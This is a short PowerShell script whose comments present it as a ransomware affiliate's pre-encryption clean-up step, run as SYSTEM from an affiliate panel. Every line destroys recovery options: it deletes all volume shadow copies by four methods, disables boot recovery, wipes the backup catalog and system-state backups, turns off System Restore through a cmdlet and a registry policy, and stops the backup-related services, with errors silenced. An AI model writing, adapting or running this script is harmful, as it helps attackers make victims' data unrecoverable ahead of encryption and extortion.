# vss.ps1 - run from the affiliate panel as SYSTEM
# Pre-encryption clean-up used by several ransomware affiliates, ported to PowerShell.

$ErrorActionPreference = 'SilentlyContinue'

vssadmin.exe Delete Shadows /All /Quiet
wmic shadowcopy delete /nointeractive
Get-WmiObject -Class Win32_ShadowCopy | ForEach-Object { $_.Delete() }
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance

bcdedit /set '{default}' recoveryenabled No
bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0

Disable-ComputerRestore -Drive 'C:\'
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore' -Name 'DisableSR' -Value 1 -PropertyType DWord -Force

Stop-Service -Name 'VSS', 'wbengine', 'SQLWriter' -Force
